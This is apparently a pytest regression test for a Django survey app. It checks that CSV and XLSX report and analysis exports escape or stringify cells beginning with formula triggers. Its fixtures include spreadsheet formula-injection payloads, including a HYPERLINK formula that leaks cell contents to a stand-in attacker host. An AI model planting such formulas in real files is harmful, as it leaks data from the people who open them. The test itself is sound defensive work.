"""Spreadsheet formula injection (issue 27): a question text, a category or a participant
reference that begins with a formula trigger (=, +, -, @, tab, CR) reaches the CSV
escaped with a leading ' and the XLSX as a string cell, never as a formula.

Fails on the old code: pandas' to_excel stored '=1+2' as a formula cell (<f>) and its
to_csv and the report's csv.writer wrote the cells unescaped."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest

from reconstruction.exports import safe_cell
from surveys.services import responses_submit_bulk
from tests.factories import (
    client_for,
    consultation_factory,
    key_factory,
    organisation_factory,
    survey_factory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = ["=1+2", "+SUM(A1)", "@cmd", "-2+3"]  # categories refuse control characters
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(django_capture_on_commit_callbacks: Any) -> dict[str, Any]:
    organisation = organisation_factory()
    consultation = consultation_factory(organisation, min_responses=10, min_cell=5)
    survey = survey_factory(
        consultation,
        questions=[
            {
                "key": "pick",
                "text": HYPERLINK,
                "type": "nominal",
                "categories": HOSTILE,
                "mechanism": {"name": "none"},
            }
        ],
    )
    responses_submit_bulk(
        survey=survey,
        responses=[
            {"participant": f"-p{i}", "answers": {"pick": HOSTILE[i % len(HOSTILE)]}}
            for i in range(120)
        ],
    )
    _, key = key_factory(organisation, "analyst")
    client = client_for(key)
    with django_capture_on_commit_callbacks(execute=True):
        report = client.post(f"/api/v1/surveys/{survey.pk}/reports/", {}, format="json")
        analysis = client.post(
            "/api/v1/analyses/",
            {"survey": survey.pk, "kind": "distribution", "attribute": "pick"},
            format="json",
        )
    assert report.status_code == 202 and analysis.status_code == 202
    return {"client": client, "report": report.json()["id"], "analysis": analysis.json()["id"]}


def _cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text))
    return [cell for row in rows for cell in row]


def _assert_csv_escaped(text: str) -> None:
    cells = _cells(text)
    for cell in cells:
        if cell.startswith(TRIGGERS):
            # a plain number (e.g. -0.5) is no formula
            float(cell.replace(",", ""))
    assert "'" + HOSTILE[0] in cells or any(c.startswith("'=1+2") for c in cells)


def _assert_no_formula(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_report_exports_neither_run_nor_escape_nothing(hostile: dict[str, Any]) -> None:
    client, report = hostile["client"], hostile["report"]
    table = client.get(f"/api/v1/reports/{report}/export/", {"format": "csv"})
    assert table.status_code == 200
    _assert_csv_escaped(table.content.decode())
    download = client.get(f"/api/v1/reports/{report}/download/", {"format": "csv"})
    assert download.status_code == 200
    _assert_csv_escaped(download.content.decode())
    xlsx = client.get(f"/api/v1/reports/{report}/export/", {"format": "xlsx"})
    values = _assert_no_formula(xlsx.content)
    assert HYPERLINK in values and "=1+2" in values  # kept as text, unchanged


def test_analysis_exports_are_text_not_formulas(hostile: dict[str, Any]) -> None:
    client, analysis = hostile["client"], hostile["analysis"]
    job = client.get(f"/api/v1/analyses/{analysis}/").json()
    assert job["status"] == "succeeded", job
    table = client.get(f"/api/v1/analyses/{analysis}/export/", {"format": "csv"})
    _assert_csv_escaped(table.content.decode())
    values = _assert_no_formula(
        client.get(f"/api/v1/analyses/{analysis}/export/", {"format": "xlsx"}).content
    )
    assert "=1+2" in values


def test_every_file_of_the_zip_is_escaped(hostile: dict[str, Any]) -> None:
    client, report = hostile["client"], hostile["report"]
    download = client.get(f"/api/v1/reports/{report}/export/", {"format": "zip"})
    assert download.status_code == 200
    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
        table = archive.read("report.csv").decode()
        _assert_csv_escaped(table)
        for name in ("columns.csv", "notes.csv"):
            for cell in _cells(archive.read(name).decode()):
                assert not cell.startswith(TRIGGERS), (name, cell)


def test_cells_are_neutralised() -> None:
    hostile = [*HOSTILE, "\tTAB", "\rCR"]
    assert [safe_cell(v) for v in hostile] == ["'" + v for v in hostile]
    assert safe_cell("-0.5") == "-0.5" and safe_cell(-3) == -3 and safe_cell("p-1") == "p-1"
